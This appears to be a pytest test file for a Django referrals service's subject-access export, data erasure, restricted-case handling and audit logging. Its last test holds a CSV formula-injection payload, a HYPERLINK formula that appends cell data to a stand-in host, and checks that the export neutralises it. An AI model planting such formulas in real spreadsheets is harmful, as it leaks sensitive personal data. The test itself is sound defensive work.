"""Rescue and Response: the view ``referrals:export`` (/referrals/cases/<uuid:pk>/export.<str:fmt>): what it
shows and writes, who may use it, its form's errors and its audit rows (docs/web-referrals.md)."""

from __future__ import annotations

import json
from datetime import timedelta

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone
from factories import signed_in
from referrals_base import NAME, _out, close_case, make_case

from vru.web.accounts.models import AuditLog
from vru.web.referrals import conf, reports, services
from vru.web.referrals.models import (
    Need,
    Referral,
    RiskNote,
    YoungPerson,
)

pytestmark = pytest.mark.django_db


# --------------------------------------------------------------------------------- SAR and erasure
def test_subject_access_export_and_erasure(w):
    r = make_case(w, provider=w.pa, days_ago=3000)
    Need.objects.create(referral=r, category="exit", desired_outcome=f"{NAME} stops")
    RiskNote.objects.create(
        referral=r,
        level="high",
        text=f"{NAME} owes a debt",
        review_on=timezone.localdate(),
        created_by=w.cw_a,
    )
    services.record_changes(
        r, "person", {"contact": "07700 900000"}, {"contact": "07700 900123"}, "moved", w.cw_a
    )
    c = signed_in(w.mgr_a)
    data = c.get(reverse("referrals:export", args=[r.pk, "json"])).json()
    item = data["referrals"][0]
    assert item["person"][0]["name"] == NAME and item["referral"][0]["reference"] == r.reference
    assert item["risk_notes"][0]["text"].endswith("owes a debt") and item["allocations"]
    csv = c.get(reverse("referrals:export", args=[r.pk, "csv"])).content.decode()
    assert NAME in csv and "07700 900123" in csv and csv.startswith('"referral","record"')
    assert AuditLog.objects.filter(action="subject access export", object_id=str(r.pk)).count() == 2
    # close it long ago: due for erasure
    close_case(
        w, r, timezone.localdate() - timedelta(days=conf.retention_days() + 1), note=f"{NAME} is doing well"
    )
    before = reports.service_report()
    from io import StringIO

    out = StringIO()
    call_command("referrals_retention", stdout=out)
    assert f"{r.reference}\tClosed" in out.getvalue() and "1 referral(s) due" in out.getvalue()
    assert YoungPerson.objects.filter(referral=r).exists()  # listing erases nothing
    with pytest.raises(CommandError, match="--user"):  # an erasure is done by a named user
        call_command("referrals_retention", "--anonymise", stdout=StringIO())
    call_command("referrals_retention", "--anonymise", "--user", w.mgr_a.email, stdout=StringIO())
    erased = AuditLog.objects.get(action="erase referral")
    purpose = f"{r.reference}: retention: period ended (Closed)"  # no personal data in it
    assert (erased.user, erased.object_id, erased.purpose) == (w.mgr_a, str(r.pk), purpose)
    r.refresh_from_db()
    assert r.anonymised_at is not None and not YoungPerson.objects.filter(referral=r).exists()
    dump = json.dumps(services.subject_access(Referral.objects.filter(pk=r.pk)))
    for secret in (NAME, "Zebedee", "07700", "Norfolk", "debt"):
        assert secret not in dump, secret
    after = reports.service_report()
    assert after == before
    assert "0 referral(s)" in _out("referrals_retention")


# ------------------------------------------------------------------------- 4, 5, 9: subject access
def test_the_export_leaves_out_a_restricted_referral_not_opened_and_audits_each_one_exported(w):
    import json

    a = make_case(w, provider=w.pa)
    b = make_case(w, provider=w.pa)
    RiskNote.objects.create(
        referral=b, level="high", text="SECRET-RISK", review_on=timezone.localdate(), created_by=w.cw_a
    )
    b.restricted = True
    b.save()
    b.allowed_staff.add(w.cw_a2)
    m = signed_in(w.mgr_a)
    data = m.get(reverse("referrals:export", args=[a.pk, "json"])).json()
    assert [i["referral"][0]["reference"] for i in data["referrals"]] == [a.reference]
    assert "SECRET-RISK" not in json.dumps(data) and data["left_out"].startswith("1 restricted")
    assert not AuditLog.objects.filter(object_id=str(b.pk)).exists()
    assert AuditLog.objects.filter(object_id=str(a.pk), action="subject access export").count() == 1
    # once opened by break-glass, it is exported too, with its own audit row
    assert (
        m.post(
            reverse("referrals:break_glass", args=[b.pk]), {"reason": "Subject access request"}
        ).status_code
        == 302
    )
    data = m.get(reverse("referrals:export", args=[a.pk, "json"])).json()
    assert len(data["referrals"]) == 2 and not data["left_out"]
    for r in (a, b):
        assert AuditLog.objects.filter(object_id=str(r.pk), action="subject access export").count() == (
            2 if r is a else 1
        )


def test_the_csv_export_neutralises_formulas(w):
    r = make_case(w, provider=w.pa)
    r.concerns = '=HYPERLINK("http://x.invalid/?"&B2,"click")'
    r.save()
    body = signed_in(w.mgr_a).get(reverse("referrals:export", args=[r.pk, "csv"])).content.decode()
    assert "\"'=HYPERLINK" in body and '"=HYPERLINK' not in body
